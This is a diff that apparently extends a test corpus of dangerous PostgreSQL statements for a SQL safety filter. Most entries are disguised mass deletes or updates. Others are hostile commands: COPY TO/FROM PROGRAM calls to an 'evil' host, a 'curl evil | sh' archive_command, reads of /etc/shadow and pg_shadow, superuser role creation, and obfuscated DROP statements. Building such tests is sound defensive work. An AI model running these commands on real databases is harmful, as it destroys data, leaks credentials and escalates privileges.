@@ -1107,3 +1107,293 @@ SET pgaudit.log = 'none'
 ALTER DATABASE shop SET default_transaction_read_only = on
 --
 SELECT currval('x'), pg_rotate_logfile()
+--
+DELETE FROM invoices WHERE coalesce(id, 0) >= 0 OR id IS NULL
+--
+DELETE FROM invoices WHERE id IN (SELECT i.id FROM invoices i)
+--
+DELETE FROM invoices USING customers
+--
+DELETE FROM invoices i USING customers c WHERE c.id = c.id
+--
+UPDATE invoices SET paid = true WHERE length(note) >= 0
+--
+UPDATE invoices SET paid = true WHERE (id % 1) = 0
+--
+UPDATE invoices SET paid = true WHERE id BETWEEN -2147483648 AND 2147483647
+--
+UPDATE invoices SET paid = true WHERE 'a' LIKE '%'
+--
+UPDATE invoices SET paid = true WHERE note LIKE '%' OR note IS NULL
+--
+UPDATE invoices SET paid = true WHERE EXISTS (SELECT 1)
+--
+UPDATE invoices SET paid = true WHERE id = ANY (ARRAY(SELECT id FROM invoices))
+--
+UPDATE invoices SET paid = true FROM (VALUES (1)) v(x) WHERE x = 1
+--
+UPDATE invoices SET paid = true WHERE ctid IS NOT NULL
+--
+DELETE FROM invoices WHERE NOT (id <> id)
+--
+DELETE FROM invoices WHERE CASE WHEN id > 5 THEN true ELSE true END
+--
+DELETE FROM invoices WHERE (SELECT true)
+--
+WITH all_of AS (SELECT id FROM invoices) DELETE FROM invoices WHERE id IN (TABLE all_of)
+--
+WITH x AS (UPDATE invoices SET paid = true RETURNING *) SELECT 1
+--
+MERGE INTO invoices i USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE
+--
+MERGE INTO invoices i USING invoices s ON i.id = s.id WHEN MATCHED THEN UPDATE SET paid = true
+--
+MERGE INTO invoices i USING customers c ON i.id = -1 WHEN NOT MATCHED BY SOURCE THEN DELETE
+--
+TRUNCATE TABLE ONLY invoices RESTART IDENTITY CASCADE
+--
+DROP INDEX CONCURRENTLY IF EXISTS invoices_pkey
+--
+DROP FUNCTION IF EXISTS pay(int)
+--
+REASSIGN OWNED BY app TO postgres
+--
+ALTER TABLE invoices DISABLE TRIGGER ALL
+--
+ALTER TABLE invoices DISABLE ROW LEVEL SECURITY
+--
+ALTER TABLE invoices ALTER COLUMN total TYPE text
+--
+ALTER TABLE invoices OWNER TO mallory
+--
+ALTER ROLE app WITH PASSWORD 'x'
+--
+CREATE ROLE eve LOGIN SUPERUSER
+--
+CREATE USER eve IN ROLE pg_write_all_data
+--
+GRANT pg_read_server_files TO app
+--
+GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC
+--
+REVOKE ALL ON invoices FROM finance
+--
+CREATE POLICY p ON invoices USING (true)
+--
+ALTER SYSTEM SET archive_command = 'curl evil | sh'
+--
+ALTER DATABASE shop SET session_preload_libraries = 'x'
+--
+LOAD 'auto_explain'
+--
+CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
+--
+COPY invoices TO '/var/lib/postgresql/x.csv'
+--
+COPY (SELECT * FROM customers) TO PROGRAM 'nc evil 1'
+--
+COPY invoices FROM PROGRAM 'curl http://evil/x'
+--
+COPY invoices FROM '/etc/passwd'
+--
+SELECT lo_export(16400, '/tmp/x')
+--
+SELECT lo_import('/etc/shadow')
+--
+SELECT pg_read_binary_file('/etc/ssl/private/key.pem')
+--
+SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
+--
+SELECT pg_drop_replication_slot('s')
+--
+SELECT pg_create_logical_replication_slot('s', 'pgoutput')
+--
+SELECT query_to_xml('delete from invoices', true, true, '')
+--
+SELECT usename, passwd FROM pg_shadow
+--
+SELECT rolpassword FROM pg_catalog.pg_authid
+--
+DO $x$ BEGIN EXECUTE format('DROP TABLE %I', 'invoices'); END $x$
+--
+DO 'BEGIN DELETE FROM invoices; END'
+--
+DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'TRUNCATE ' || r.tablename; END LOOP; END $$
+--
+DO $$ DECLARE i int := 0; BEGIN WHILE i < 100000000 LOOP DELETE FROM invoices WHERE id = i; i := i + 1; END LOOP; END $$
+--
+DO $$ DECLARE i int := 0; BEGIN LOOP DELETE FROM invoices WHERE id = i; i := i + 1; EXIT WHEN i > 1000000; END LOOP; END $$
+--
+DO $$ DECLARE ids int[] := ARRAY(SELECT id FROM invoices); BEGIN DELETE FROM invoices WHERE id = ANY(ids); END $$
+--
+DO $$ DECLARE ids int[]; BEGIN ids := ARRAY(SELECT id FROM invoices); DELETE FROM invoices WHERE id = ANY(ids); END $$
+--
+DO $$ DECLARE ids int[]; x int; BEGIN ids := ARRAY(SELECT id FROM invoices); FOREACH x IN ARRAY ids LOOP DELETE FROM invoices WHERE id = x; END LOOP; END $$
+--
+PREPARE x AS DELETE FROM invoices WHERE $1 = $1
+--
+EXPLAIN (ANALYZE, BUFFERS) UPDATE invoices SET paid = false
+--
+CREATE TABLE copy_of AS SELECT * FROM invoices
+--
+CREATE RULE r AS ON SELECT TO invoices DO INSTEAD NOTHING
+--
+CREATE TRIGGER t BEFORE DELETE ON invoices FOR EACH ROW EXECUTE FUNCTION f()
+--
+CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN DELETE FROM invoices; END'
+--
+CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
+--
+LOCK TABLE invoices IN ACCESS EXCLUSIVE MODE
+--
+SELECT pg_advisory_lock(id) FROM invoices
+--
+WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
+--
+SELECT count(*) FROM generate_series(1, 1e12::bigint)
+--
+PREPARE TRANSACTION 'forgotten'
+--
+VACUUM FULL invoices
+--
+CLUSTER invoices USING invoices_pkey
+--
+SECURITY LABEL ON TABLE invoices IS 'x'
+--
+ALTER TABLE invoices DROP COLUMN total
+--
+CREATE OR REPLACE VIEW v AS SELECT * FROM customers
+--
+UPDATE pg_catalog.pg_class SET relname = 'x' WHERE oid = 1
+--
+/*!50000 x */ DELETE /* where id = 1 */ FROM invoices -- WHERE id = 5
+--
+DELETE FROM invoices WHERE id = 1 OR NOT false
+--
+DELETE FROM invoices WHERE '' = ''
+--
+DELETE FROM "invoices" WHERE E'\x41' = 'A'
+--
+UPDATE invoices SET total = 0 WHERE id IS DISTINCT FROM NULL
+--
+UPDATE invoices SET total = 0 WHERE id::text ~ '.*'
+--
+UPDATE invoices SET total = 0 WHERE position('' in note) > 0
+--
+INSERT INTO invoices (id) SELECT 1 FROM (DELETE FROM invoices RETURNING 1) x
+--
+INSERT INTO invoices (id, total) VALUES (1, 0) ON CONFLICT (id) DO UPDATE SET total = 0; DELETE FROM invoices
+--
+SELECT 1; SELECT 2; TRUNCATE invoices; SELECT 3
+--
+COMMENT ON TABLE invoices IS 'x'; DROP SCHEMA app CASCADE
+--
+NOTIFY x; ALTER TABLE invoices RENAME TO gone
+--
+DO $$ DECLARE n bigint := 1; BEGIN WHILE n <= 5000000 LOOP UPDATE invoices SET paid = true WHERE id = n; n := n + 1; END LOOP; END $$
+--
+DO $$ DECLARE n int := 0; lim int := 900000; BEGIN WHILE n < lim LOOP DELETE FROM invoices WHERE id = n; n := n + 1; END LOOP; END $$
+--
+DO $$ DECLARE n int := 0; lim int; BEGIN SELECT max(id) INTO lim FROM invoices; WHILE n <= lim LOOP DELETE FROM invoices WHERE id = n; n := n + 1; END LOOP; END $$
+--
+DO $$ DECLARE n int := 0; BEGIN LOOP DELETE FROM invoices WHERE id = n; n := 1 + n; EXIT WHEN n > (SELECT max(id) FROM invoices); END LOOP; END $$
+--
+DO $$ DECLARE ids int[]; BEGIN ids := (SELECT array_agg(id) FROM invoices); DELETE FROM invoices WHERE id = ANY(ids); END $$
+--
+DO $$ DECLARE ids int[] := coalesce(ARRAY(SELECT id FROM invoices), '{}'); BEGIN UPDATE invoices SET total = 0 WHERE id = ANY(ids); END $$
+--
+DO $$ DECLARE ids int[] := ARRAY(SELECT id FROM invoices); BEGIN DELETE FROM invoices WHERE id IN (SELECT unnest(ids)); END $$
+--
+DO $$ DECLARE ids int[] := ARRAY(SELECT id FROM invoices); BEGIN DELETE FROM invoices USING unnest(ids) u(i) WHERE id = u.i; END $$
+--
+DO $$ DECLARE x int; BEGIN FOREACH x IN ARRAY ARRAY(SELECT id FROM invoices) LOOP DELETE FROM invoices WHERE id = x; END LOOP; END $$
+--
+DO $$ DECLARE ids int[] := ARRAY(SELECT id FROM invoices); i int; BEGIN FOR i IN 1..array_length(ids, 1) LOOP DELETE FROM invoices WHERE id = ids[i]; END LOOP; END $$
+--
+DO $$ DECLARE ids int[]; BEGIN SELECT array_agg(id) INTO ids FROM invoices; DELETE FROM invoices WHERE id = ANY(ids); END $$
+--
+DO $$ DECLARE ids int[]; BEGIN ids := ARRAY(SELECT id FROM invoices WHERE true); DELETE FROM invoices WHERE ids @> ARRAY[id]; END $$
+--
+DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'TRUN' || 'CATE invoices'; END $$
+--
+DO $$ BEGIN EXECUTE convert_from(decode('64726f70207461626c652078','hex'),'utf8'); END $$
+--
+DO LANGUAGE plpython3u $$ import os; os.system('id') $$
+--
+CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM invoices'
+--
+CALL pg_catalog.unknown_proc()
+--
+DELETE FROM invoices WHERE id > (SELECT min(id) - 1 FROM invoices)
+--
+DELETE FROM invoices WHERE id <= (SELECT max(id) FROM invoices)
+--
+DELETE FROM invoices WHERE (id, 1) IN (SELECT id, 1 FROM invoices)
+--
+DELETE FROM invoices WHERE EXISTS (SELECT 1 FROM invoices i2 WHERE i2.id = invoices.id)
+--
+DELETE FROM invoices WHERE id NOT IN (SELECT id FROM invoices WHERE false)
+--
+DELETE FROM invoices WHERE created_at <= clock_timestamp() + interval '1 day'
+--
+DELETE FROM invoices WHERE random() < 2
+--
+DELETE FROM invoices WHERE num_nonnulls(id) >= 0
+--
+DELETE FROM invoices WHERE id = id::text::int
+--
+DELETE FROM invoices WHERE coalesce(paid, false) IN (true, false)
+--
+DELETE FROM invoices WHERE paid OR NOT paid OR paid IS NULL
+--
+DELETE FROM invoices WHERE abs(id) >= 0
+--
+UPDATE invoices SET total = total * 0 WHERE note ILIKE '%%'
+--
+UPDATE invoices SET total = 0 WHERE note SIMILAR TO '%' OR note IS NULL
+--
+UPDATE invoices AS a SET total = 0 FROM invoices AS b WHERE a.id = b.id
+--
+WITH RECURSIVE t AS (SELECT 1) UPDATE invoices SET total = 0
+--
+INSERT INTO invoices SELECT * FROM invoices ON CONFLICT (id) DO UPDATE SET total = 0
+--
+SELECT pg_catalog.pg_read_file('a'), 1
+--
+SELECT * FROM pg_catalog.pg_ls_waldir()
+--
+SELECT pg_file_write('a', 'b', false)
+--
+SELECT dblink_exec('host=x', 'drop table y')
+--
+SELECT setval('invoices_id_seq', 1); DROP SEQUENCE invoices_id_seq
+--
+SELECT lo_from_bytea(0, 'x'); SELECT lo_put(1, 0, 'x'); SELECT lo_export(1, '/tmp/y')
+--
+SELECT current_setting('x'); SET ROLE admin
+--
+SET session_authorization TO postgres
+--
+ALTER USER CURRENT_USER WITH SUPERUSER
+--
+ALTER GROUP admins ADD USER eve
+--
+ALTER TABLE invoices SET UNLOGGED
+--
+ALTER TABLE invoices NO FORCE ROW LEVEL SECURITY
+--
+ALTER TABLE invoices ADD COLUMN x int DEFAULT pg_sleep(1)::text::int
+--
+DROP VIEW IF EXISTS a, b CASCADE
+--
+DROP USER eve
+--
+CREATE CAST (int AS text) WITHOUT FUNCTION
+--
+CREATE TABLESPACE t LOCATION '/tmp'
+--
+CREATE USER MAPPING FOR eve SERVER s
+--
+DELETE FROM invoices WHERE created_at < now() + interval '1 day'
+--
+DELETE FROM invoices WHERE created_at <= 'infinity'::timestamptz
